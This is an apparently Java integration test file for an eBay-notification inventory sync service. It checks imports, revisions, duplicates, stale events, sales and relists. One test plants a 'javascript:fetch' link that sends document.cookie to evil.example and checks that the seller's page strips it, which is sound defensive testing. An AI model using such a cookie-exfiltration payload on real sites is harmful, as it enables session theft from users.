package com.qventory.sync.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.qventory.sync.it.support.BlackBoxTest;
import com.qventory.sync.it.support.Json;
import com.qventory.sync.it.support.Notifications;
import com.qventory.sync.it.support.Sellers;
import com.qventory.sync.it.support.TestDatabase;
import com.qventory.sync.it.support.WebClient;
import com.qventory.sync.testing.Fixtures;
import jakarta.json.JsonArray;
import jakarta.json.JsonObject;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Each event's effect on a seller's inventory, through the real pipeline (signed SOAP POST → queue
 * → MDB → PostgreSQL), read back through the JSON API as the seller sees it.
 */
@BlackBoxTest
class IngestionIT {

  private Sellers.Seller seller;
  private String itemId;
  private Instant t0;

  @BeforeEach
  void connectedSellerAndANewListing() throws Exception {
    seller = Sellers.connected();
    itemId = Notifications.uniqueItemId();
    t0 = Instant.now().minusSeconds(60);
  }

  @Test
  void itemListedImportsTheItemWithEverythingEbayStates() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());

    assertEquals(List.of("PROCESSED"), Notifications.awaitSettled(itemId, 1));
    JsonObject item = onlyItem();
    assertEquals("Vintage Pyrex Butterprint Mixing Bowl 2.5 qt", item.getString("title"));
    assertEquals("PYR-BP-401", item.getString("sku"));
    assertEquals("34.99", item.getJsonNumber("price").bigDecimalValue().toPlainString());
    assertEquals("USD", item.getString("currency"));
    assertEquals(3, item.getInt("quantityAvailable"));
    assertEquals("Active", item.getString("listingStatus"));
    assertTrue(item.getBoolean("syncedFromEbay"));
    JsonObject detail = detail(item.getJsonNumber("id").longValue());
    assertEquals("Auto-imported from eBay via Platform Notifications", detail.getString("notes"));
    assertEquals(2, detail.getJsonArray("pictureUrls").size());
    assertEquals("Used", detail.getString("conditionName"));
    assertEquals("Home & Garden:Kitchen:Bowls", detail.getString("categoryName"));
    assertEquals("https://www.ebay.com/itm/" + itemId, detail.getString("viewItemUrl"));
    assertEquals("2026-12-27T18:30:00Z", detail.getString("endTime"));
    JsonArray history = detail.getJsonArray("history");
    assertEquals(1, history.size());
    assertTrue(history.getJsonObject(0).getString("summary").startsWith("imported"));
    assertEquals(
        List.of("New eBay listing imported!"),
        TestDatabase.strings(
            "SELECT message FROM seller_notification WHERE seller_id = ?", seller.id()));
  }

  @Test
  void variationsAreStoredAndTheirQuantitiesSummed() throws Exception {
    push("item-listed-with-variations.xml", "ItemListed", t0, Map.of());

    Notifications.awaitSettled(itemId, 1);
    JsonObject detail = detail(onlyItem().getJsonNumber("id").longValue());
    assertEquals("LEVI-501", detail.getJsonObject("summary").getString("sku"));
    assertEquals(5, detail.getJsonObject("summary").getInt("quantityAvailable"));
    JsonArray variations = detail.getJsonArray("variations");
    assertEquals(2, variations.size());
    assertEquals("LEVI-501-3232", variations.getJsonObject(0).getString("sku"));
    assertEquals(3, variations.getJsonObject(0).getInt("quantityAvailable"));
  }

  @Test
  void unicodeTitlesAndOtherCurrenciesArriveIntact() throws Exception {
    push("item-listed-unicode-eur.xml", "ItemListed", t0, Map.of());

    Notifications.awaitSettled(itemId, 1);
    JsonObject item = onlyItem();
    assertEquals("Émaille-Kaffeekanne „Blümchen“ – 1950er ☕ 北欧", item.getString("title"));
    assertEquals("49.00", item.getJsonNumber("price").bigDecimalValue().toPlainString());
    assertEquals("EUR", item.getString("currency"));
  }

  @Test
  void aRevisionUpdatesTheFieldsAndTheHistorySaysWhatChanged() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);

    push(
        "item-revised.xml",
        "ItemRevised",
        t0.plusSeconds(5),
        Map.of("PRICE", "29.99", "QUANTITY", "5"));

    assertEquals(List.of("PROCESSED", "PROCESSED"), Notifications.awaitSettled(itemId, 2));
    JsonObject item = onlyItem();
    assertEquals("29.99", item.getJsonNumber("price").bigDecimalValue().toPlainString());
    assertEquals(5, item.getInt("quantityAvailable"));
    JsonArray history = detail(item.getJsonNumber("id").longValue()).getJsonArray("history");
    assertEquals("ItemRevised", history.getJsonObject(0).getString("eventName"));
    assertTrue(
        history.getJsonObject(0).getString("summary").contains("price: 34.99 USD → 29.99 USD"));
  }

  @Test
  void aChangeCommittedWhileANotificationWaitsForTheItemIsKeptAndCostsNoFailedAttempt()
      throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);

    try (Connection page = TestDatabase.connect()) {
      // The seller saves the item's own fields on its page while eBay's revision arrives: the
      // revision's transaction has to wait for the row, and finds it changed when it gets it.
      page.setAutoCommit(false);
      try (PreparedStatement lock =
          page.prepareStatement(
              "SELECT id FROM inventory_item WHERE ebay_item_id = ? FOR UPDATE")) {
        lock.setString(1, itemId);
        lock.executeQuery().close();
      }
      push("item-revised.xml", "ItemRevised", t0.plusSeconds(5), Map.of("PRICE", "29.99"));
      TestDatabase.await(
              Notifications.PIPELINE_TIMEOUT,
              () ->
                  TestDatabase.strings(
                          "SELECT pid FROM pg_stat_activity WHERE wait_event_type = 'Lock'"
                              + " AND application_name = 'qventory-sync'")
                      .stream()
                      .findFirst())
          .orElseThrow(() -> new AssertionError("the revision never waited for the item"));
      try (PreparedStatement save =
          page.prepareStatement(
              "UPDATE inventory_item SET storage_location = 'Shelf B', version = version + 1"
                  + " WHERE ebay_item_id = ?")) {
        save.setString(1, itemId);
        save.executeUpdate();
      }
      page.commit();
    }

    assertEquals(List.of("PROCESSED", "PROCESSED"), Notifications.awaitSettled(itemId, 2));
    assertEquals(
        "1", Notifications.eventColumn("attempts", itemId).orElseThrow(), "no failed attempt");
    JsonObject item = onlyItem();
    assertEquals("29.99", item.getJsonNumber("price").bigDecimalValue().toPlainString());
    assertEquals(
        List.of("Shelf B"),
        TestDatabase.strings(
            "SELECT storage_location FROM inventory_item WHERE ebay_item_id = ?", itemId));
  }

  @Test
  void theSameNotificationDeliveredTwiceHasOneEffect() throws Exception {
    String once = Notifications.signedFor(seller, itemId, "item-listed.xml", t0, Map.of());

    Notifications.pushAccepted(once, "ItemListed");
    Notifications.pushAccepted(once, "ItemListed");

    List<String> statuses = Notifications.awaitSettled(itemId, 2);
    assertEquals(List.of("DUPLICATE", "PROCESSED"), statuses.stream().sorted().toList());
    assertEquals(
        1, detail(onlyItem().getJsonNumber("id").longValue()).getJsonArray("history").size());
    assertEquals(
        List.of("1"),
        TestDatabase.strings(
            "SELECT count(*) FROM seller_notification WHERE seller_id = ?", seller.id()));
  }

  @Test
  void anOlderNotificationArrivingLateNeverOverwritesNewerState() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);
    push("item-revised.xml", "ItemRevised", t0.plusSeconds(20), Map.of("PRICE", "20.00"));
    Notifications.awaitSettled(itemId, 2);

    push("item-revised.xml", "ItemRevised", t0.plusSeconds(10), Map.of("PRICE", "10.00"));

    assertEquals(List.of("PROCESSED", "PROCESSED", "STALE"), Notifications.awaitSettled(itemId, 3));
    assertEquals("20.00", onlyItem().getJsonNumber("price").bigDecimalValue().toPlainString());
  }

  @Test
  void eachSaleIsRecordedOnceAndTheQuantityFollows() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);

    push(
        "fixed-price-transaction.xml",
        "FixedPriceTransaction",
        t0.plusSeconds(10),
        Map.of("TRANSACTION_ID", "7001", "QUANTITY_SOLD", "1"));
    push(
        "auction-checkout-complete.xml",
        "AuctionCheckoutComplete",
        t0.plusSeconds(20),
        Map.of("TRANSACTION_ID", "7001", "QUANTITY_SOLD", "1"));

    assertEquals(
        List.of("PROCESSED", "PROCESSED", "PROCESSED"), Notifications.awaitSettled(itemId, 3));
    JsonObject detail = detail(onlyItem().getJsonNumber("id").longValue());
    assertEquals(2, detail.getJsonObject("summary").getInt("quantityAvailable"));
    JsonArray sales = detail.getJsonArray("sales");
    assertEquals(1, sales.size(), "one TransactionID, one sale");
    assertEquals("7001", sales.getJsonObject(0).getString("transactionId"));
  }

  @ParameterizedTest
  @CsvSource({
    "item-sold.xml, ItemSold, Completed, 0",
    "item-closed.xml, ItemClosed, Ended, 2",
    "item-unsold.xml, ItemUnsold, Ended, 3",
    "item-extended.xml, ItemExtended, Active, 3",
    "item-out-of-stock.xml, ItemOutOfStock, Active, 0"
  })
  void listingEventsSetStatusEndTimeAndQuantityAsEbayStatesThem(
      String fixture, String event, String status, int available) throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);

    push(
        fixture,
        event,
        t0.plusSeconds(30),
        Map.of(
            "LISTING_STATUS",
            status,
            "QUANTITY_SOLD",
            Integer.toString(3 - available),
            "END_TIME",
            "2027-01-15T10:00:00.000Z"));

    Notifications.awaitSettled(itemId, 2);
    JsonObject detail = detail(onlyItem().getJsonNumber("id").longValue());
    assertEquals(status, detail.getJsonObject("summary").getString("listingStatus"));
    assertEquals(available, detail.getJsonObject("summary").getInt("quantityAvailable"));
    assertEquals("2027-01-15T10:00:00Z", detail.getString("endTime"));
  }

  @Test
  void aRelistIsLinkedToTheListingItReplaces() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);
    String relistId = Notifications.uniqueItemId();

    Notifications.pushAccepted(
        Notifications.signed(
            "item-listed-relist.xml",
            Map.of(
                "ITEM_ID",
                relistId,
                "RELIST_PARENT",
                itemId,
                "RECIPIENT",
                seller.ebayUserId(),
                "TIMESTAMP",
                Notifications.ebayTime(t0.plusSeconds(40)))),
        "ItemListed");

    Notifications.awaitSettled(relistId, 1);
    JsonObject relisted =
        Json.parse(
                WebClient.getWithBasic(
                        "/api/v1/items?ebayItemId=" + relistId, seller.username(), Sellers.PASSWORD)
                    .body())
            .getJsonArray("items")
            .getJsonObject(0);
    JsonObject link =
        detail(relisted.getJsonNumber("id").longValue()).getJsonObject("relistedFrom");
    assertNotNull(link, "the relist names its predecessor");
    assertEquals(itemId, link.getString("ebayItemId"));
    JsonObject forward = detail(link.getJsonNumber("id").longValue()).getJsonObject("relistedAs");
    assertEquals(relistId, forward.getString("ebayItemId"), "and the predecessor its relist");
  }

  @Test
  void aLegacyItemSuspendedFindsItsSellerThroughTheListing() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);

    Notifications.pushAccepted(
        Fixtures.signed(
            "item-suspended-legacy.xml",
            Map.of(
                "ITEM_ID",
                itemId,
                "TIMESTAMP",
                DateTimeFormatter.ofPattern("yyyy-MM-dd HH:mm:ss")
                    .withZone(ZoneOffset.UTC)
                    .format(Instant.now()))),
        "ItemSuspended");

    assertEquals(List.of("PROCESSED", "PROCESSED"), Notifications.awaitSettled(itemId, 2));
    assertEquals("Suspended", onlyItem().getString("listingStatus"));
  }

  @Test
  void aModernNotificationThatNamesNoOneChangesNoOnesListing() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);
    String signed =
        Notifications.signedFor(
            seller, itemId, "item-revised.xml", t0.plusSeconds(5), Map.of("PRICE", "0.01"));
    String namesNoOne =
        signed
            .replaceAll("<RecipientUserID>[^<]*</RecipientUserID>", "")
            .replaceAll("<EIASToken>[^<]*</EIASToken>", "");
    assertFalse(namesNoOne.contains("RecipientUserID") || namesNoOne.contains("EIASToken"));

    Notifications.pushAccepted(namesNoOne, "ItemRevised");

    assertEquals(List.of("PROCESSED", "UNMATCHED"), Notifications.awaitSettled(itemId, 2));
    assertEquals("34.99", onlyItem().getJsonNumber("price").bigDecimalValue().toPlainString());
  }

  @Test
  void linksThatAreNotEbaysNeverReachTheSellersPage() throws Exception {
    String hostile =
        Notifications.signedFor(seller, itemId, "item-listed.xml", t0, Map.of())
            .replace(
                "https://www.ebay.com/itm/" + itemId,
                "javascript:fetch('https://evil.example/?'+document.cookie)")
            .replace(
                "https://i.ebayimg.com/images/g/pyrex-side/s-l1600.jpg",
                "https://evil.example/pixel.gif");
    Notifications.pushAccepted(hostile, "ItemListed");
    Notifications.awaitSettled(itemId, 1);

    long id = onlyItem().getJsonNumber("id").longValue();
    HttpResponse<String> page =
        new WebClient()
            .openAfterLogIn("/seller/item.xhtml?id=" + id, seller.username(), Sellers.PASSWORD);

    assertEquals(200, page.statusCode());
    assertTrue(page.body().contains("Vintage Pyrex Butterprint"), "the item's page");
    assertFalse(page.body().contains("javascript:fetch"), "no script link");
    assertFalse(page.body().contains("evil.example"), "no foreign host");
    assertTrue(page.body().contains("https://i.ebayimg.com/images/g/pyrex/s-l1600.jpg"));
  }

  @Test
  void otherEventsAreAcknowledgedAndIgnored() throws Exception {
    push("item-marked-shipped.xml", "ItemMarkedShipped", t0, Map.of());

    assertEquals(List.of("IGNORED"), Notifications.awaitSettled(itemId, 1));
    assertEquals(0, items().getInt("total"));
  }

  @Test
  void aNotificationForNoConnectedSellerIsUnmatchedAndImportsNothing() throws Exception {
    Notifications.pushAccepted(
        Notifications.signed(
            "item-listed.xml", Map.of("ITEM_ID", itemId, "RECIPIENT", "nobody_we_know")),
        "ItemListed");

    assertEquals(List.of("UNMATCHED"), Notifications.awaitSettled(itemId, 1));
    assertEquals(
        List.of("0"),
        TestDatabase.strings("SELECT count(*) FROM inventory_item WHERE ebay_item_id = ?", itemId));
  }

  @Test
  void aNotificationNamingAnotherSellerNeverChangesThisSellersItem() throws Exception {
    push("item-listed.xml", "ItemListed", t0, Map.of());
    Notifications.awaitSettled(itemId, 1);
    Sellers.Seller other = Sellers.connected();

    Notifications.pushAccepted(
        Notifications.signed(
            "item-revised.xml",
            Map.of(
                "ITEM_ID",
                itemId,
                "RECIPIENT",
                other.ebayUserId(),
                "PRICE",
                "1.00",
                "TIMESTAMP",
                Notifications.ebayTime(t0.plusSeconds(10)))),
        "ItemRevised");

    assertEquals(List.of("PROCESSED", "UNMATCHED"), Notifications.awaitSettled(itemId, 2));
    assertEquals("34.99", onlyItem().getJsonNumber("price").bigDecimalValue().toPlainString());
  }

  private void push(String fixture, String event, Instant at, Map<String, String> values)
      throws Exception {
    Notifications.pushFor(seller, itemId, fixture, event, at, values);
  }

  private JsonObject items() throws Exception {
    var response =
        WebClient.getWithBasic(
            "/api/v1/items?ebayItemId=" + itemId, seller.username(), Sellers.PASSWORD);
    assertEquals(200, response.statusCode(), response.body());
    return Json.parse(response.body());
  }

  private JsonObject onlyItem() throws Exception {
    JsonObject page = items();
    assertEquals(1, page.getInt("total"), page.toString());
    return page.getJsonArray("items").getJsonObject(0);
  }

  private JsonObject detail(long id) throws Exception {
    var response =
        WebClient.getWithBasic("/api/v1/items/" + id, seller.username(), Sellers.PASSWORD);
    assertEquals(200, response.statusCode(), response.body());
    return Json.parse(response.body());
  }
}
